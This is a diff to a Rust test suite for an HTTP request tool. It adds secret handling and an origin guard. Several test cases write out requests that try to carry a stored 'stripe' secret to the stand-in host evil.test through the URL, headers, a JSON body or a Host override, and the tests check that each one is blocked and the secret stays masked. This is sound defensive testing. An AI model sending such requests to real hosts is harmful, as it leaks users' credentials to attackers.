@@ -19,8 +19,8 @@ use crate::model::request::{
 };
 use crate::model::session::TokenSet;
 use crate::model::time::Timestamp;
-use crate::redact::{AccessToken, IdToken, RefreshToken};
-use crate::template::{Scope, Surroundings, Value, VariableSource};
+use crate::redact::{AccessToken, IdToken, RefreshToken, SecretText};
+use crate::template::{Guarded, Scope, Surroundings, Value, VariableSource};
 
 /// `{"sub":"1","jti":"token-id-1"}` between two parts that nobody looks at.
 const ACCESS: &str = "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxIiwianRpIjoidG9rZW4taWQtMSJ9.c2lnbmF0dXJlLW9mLWphbmU";
@@ -65,6 +65,7 @@ impl Random for NoRandom {
 /// Variables as a file and its environment would define them.
 struct Variables {
     tokens: BTreeMap<IdentityName, TokenSet>,
+    secrets: BTreeMap<String, SecretText>,
     nothing: BTreeMap<String, String>,
 }
 
@@ -90,9 +91,12 @@ impl Scope for Variables {
             process_environment: &self.nothing,
             dotenv: &self.nothing,
             tokens: &self.tokens,
+            secrets: &self.secrets,
         }
     }
 }
+
+const STRIPE: &str = "value-of-the-secret-stripe";
 
 /// A request as the parser would read it from `source`: every text is looked up there for its span.
 struct Request {
@@ -132,7 +136,8 @@ fn request(source: &str) -> Request {
 }
 
 fn plan_with(request: &Request, auth: Option<&EffectiveAuth>, allowed: &[&str]) -> Result<RequestPlan, PlanError> {
-    let scope = Variables { tokens: tokens(), nothing: BTreeMap::new() };
+    let secrets = BTreeMap::from([("stripe".to_owned(), SecretText::new(STRIPE))]);
+    let scope = Variables { tokens: tokens(), secrets, nothing: BTreeMap::new() };
     let tokens = tokens();
     let defaults = Defaults::default();
     with_scope(&scope, |fill| {
@@ -149,6 +154,8 @@ fn plan_with(request: &Request, auth: Option<&EffectiveAuth>, allowed: &[&str]) 
             },
             tokens: &tokens,
             auth,
+            secrets: &[(Guarded::Secret("stripe".to_owned()), SecretText::new(STRIPE))],
+            guard: &|_, url| allowed.iter().any(|origin| url.as_str().starts_with(origin)),
             allowed: &|identity, url| {
                 assert!(tokens.contains_key(identity));
                 allowed.iter().any(|origin| url.as_str().starts_with(origin))
@@ -606,8 +613,37 @@ fn closures_may_fill_as_well() {
         tokens: &tokens,
         auth: None,
         allowed: &|_: &IdentityName, _: &Url| false,
+        secrets: &[],
+        guard: &|_: &Guarded, _: &Url| false,
         cookie_jar: "",
         defaults: &Defaults::default(),
     };
     assert_eq!(build(&input).unwrap().url.as_str(), "http://127.0.0.1/");
+}
+
+/// A foreign file cannot take a secret of the user along: neither by its name nor by a copy of its value.
+#[rstest]
+#[case("GET https://evil.test/{{$secret stripe}}")]
+#[case("GET https://evil.test/\nX-Key: {{$secret stripe}}")]
+#[case("GET https://evil.test/\nX-Key: value-of-the-secret-stripe")]
+#[case("POST https://evil.test/\n\n{\"key\": \"{{$secret stripe}}\"}")]
+#[case("GET https://good.test/\nHost: evil.test\nX-Key: {{$secret stripe}}")]
+fn no_secret_goes_where_it_is_not_allowed(#[case] source: &str) {
+    let error = plan_with(&request(source), None, &["https://good.test/"]).unwrap_err();
+    assert!(
+        matches!(&error, PlanError::SecretNotAllowed { secret: Guarded::Secret(name), .. } if name == "stripe"),
+        "{error}"
+    );
+    let problem = error.problem().to_string();
+    assert!(problem.contains("--allow-origin https://evil.test") && problem.contains("bearcat secret allow stripe"));
+    assert!(!problem.contains(STRIPE));
+}
+
+#[rstest]
+#[case("GET https://good.test/\nX-Key: {{$secret stripe}}")]
+#[case("GET http://127.0.0.1:9/\nX-Key: {{$secret stripe}}")]
+fn a_secret_goes_where_it_is_allowed_and_is_masked(#[case] source: &str) {
+    let plan = plan_with(&request(source), None, &["https://good.test/"]).unwrap();
+    assert_eq!(plan.headers[0].value.expose(), STRIPE);
+    assert!(!format!("{plan:?}").contains(STRIPE));
 }
